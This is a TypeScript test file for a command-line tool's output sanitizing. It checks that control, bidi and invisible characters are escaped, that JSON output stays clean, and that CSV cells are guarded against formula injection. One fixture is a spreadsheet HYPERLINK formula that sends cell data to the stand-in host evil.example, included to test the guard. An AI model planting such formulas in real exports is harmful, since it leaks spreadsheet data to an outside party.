/**
 * The one function that makes outside text safe to show (src/cli/output/sanitize.ts),
 * JSON output that holds no raw control character yet parses back to the
 * same values, and CSV cells guarded against formula injection (OWASP) with
 * RFC 4180 quoting kept.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csv } from '../../src/cli/output/csv.js';
import { jsonText } from '../../src/cli/output/json-text.js';
import { sanitize } from '../../src/cli/output/sanitize.js';
import { PIECES, rawControl } from '../helpers/hostile.js';

describe('sanitize', () => {
  it.each(PIECES.map((p) => [p.name, p] as const))('%s is shown visibly', (_name, p) => {
    expect(sanitize(p.raw)).toBe(p.shown);
    expect(sanitize(p.raw, 'keep')).toBe(p.shown);
  });

  it.each([
    ['every C0 control', '\u0001\u0002\u0008\u000b\u000c\u000e\u001f', '\\x01\\x02\\x08\\x0b\\x0c\\x0e\\x1f'],
    ['the C1 controls (U+0080–U+009F)', '\u0080\u0085\u008d\u009d\u009f', '\\x80\\x85\\x8d\\x9d\\x9f'],
    [
      'the other bidi controls',
      '\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u2067\u2068\u2069',
      '\\u061c\\u200e\\u200f\\u202a\\u202b\\u202c\\u202d\\u2067\\u2068\\u2069',
    ],
    ['the line and paragraph separators', 'a\u2028b\u2029c', 'a\\u2028b\\u2029c'],
    [
      'the invisible format characters (Cf): zero-width space and joiners, word joiner, BOM, soft hyphen',
      'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg',
      'a\\u200bb\\u200cc\\u200dd\\u2060e\\ufefff\\xadg',
    ],
    ['a tag character beyond the BMP', 'S\u{E0041}N', 'S\\u{e0041}N'],
  ])('%s', (_name, raw, shown) => {
    expect(sanitize(raw)).toBe(shown);
  });

  it('a line break: shown in one-line text, kept in cells and bodies', () => {
    expect(sanitize('Rua A\nBloco 2')).toBe('Rua A\\nBloco 2');
    expect(sanitize('Rua A\nBloco 2', 'keep')).toBe('Rua A\nBloco 2');
    expect(sanitize('a\r\nb', 'keep')).toBe('a\\r\nb');
  });

  it('leaves printable text alone: accents, other scripts, emoji, symbols, a backslash', () => {
    const text = 'José Conceição — São Paulo · 東京 · 🏥 · C:\\dir\\x1b · “aspas” ½';
    expect(sanitize(text)).toBe(text);
  });
});

describe('jsonText', () => {
  const value = { nome: PIECES.map((p) => p.raw).join('|'), list: ['\u0085', '\u202e', 1, null], n: -5 };

  it('parses back to the same value', () => {
    expect(JSON.parse(jsonText(value))).toEqual(value);
    expect(JSON.parse(jsonText(value, 2))).toEqual(value);
  });

  it('holds no raw control character: DEL, C1 and bidi controls are \\u escapes', () => {
    expect(rawControl(jsonText(value))).toBeUndefined();
    expect(jsonText(['\u007f\u009b\u202e\u2028'])).toBe('["\\u007f\\u009b\\u202e\\u2028"]');
  });

  it('writes the invisible format characters as \\u escapes, a pair of them beyond the BMP', () => {
    const text = jsonText(['Rua\u200bA', '\ufeffx', 'Ma\u00adria', 'S\u{E0041}N']);
    expect(text).toBe('["Rua\\u200bA","\\ufeffx","Ma\\u00adria","S\\udb40\\udc41N"]');
    expect(JSON.parse(text)).toEqual(['Rua\u200bA', '\ufeffx', 'Ma\u00adria', 'S\u{E0041}N']);
  });

  it('is JSON.stringify for text without them', () => {
    const plain = { a: 'São Paulo', b: [1, 2], c: 'x\ty' };
    expect(jsonText(plain, 2)).toBe(JSON.stringify(plain, null, 2));
  });
});

describe('csv formula injection', () => {
  const cells = (value: unknown) => csv(['v'], [{ v: value }]).split('\n')[1];

  it.each([
    ['=', '=1+1', `"'=1+1"`],
    ['+', '+5511987654321', `"'+5511987654321"`],
    ['-', '-12', `"'-12"`],
    ['@', '@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['TAB', '\t=1', `"'\\t=1"`],
    ['CR', '\r=1', `"'\\r=1"`],
    ['NUL', '\u0000x', `"'\\x00x"`],
    ['blanks before =', '  =1+1', `"'  =1+1"`],
    ['a line break before =', '\n=1', `"'\n=1"`],
  ])('a text cell starting with %s gets a leading quote and is quoted', (_name, value, line) => {
    expect(csv(['v'], [{ v: value }])).toBe(`v\n${line}\n`);
  });

  it('quotes inside a guarded cell are doubled (RFC 4180), and the cell reads back with its leading quote', () => {
    const value = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    const out = csv(['v'], [{ v: value }]);
    expect(out).toBe(`v\n"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"\n`);
    expect(parse(out, { columns: true })).toEqual([{ v: `'${value}` }]);
  });

  it('numbers typed as JSON numbers are left as they are; the same text is guarded', () => {
    expect(csv(['n', 's'], [{ n: -5, s: '-5' }])).toBe(`n,s\n-5,"'-5"\n`);
  });

  it('harmless text is written as before: plain, or quoted for a comma, a quote or a line break', () => {
    expect(cells('Rua A, 10')).toBe('"Rua A, 10"');
    expect(cells('a "b"')).toBe('"a ""b"""');
    expect(cells('José')).toBe('José');
    expect(cells('a-b=c')).toBe('a-b=c');
    expect(cells(12)).toBe('12');
    expect(csv(['v'], [{ v: 'a\nb' }])).toBe('v\n"a\nb"\n');
  });
});
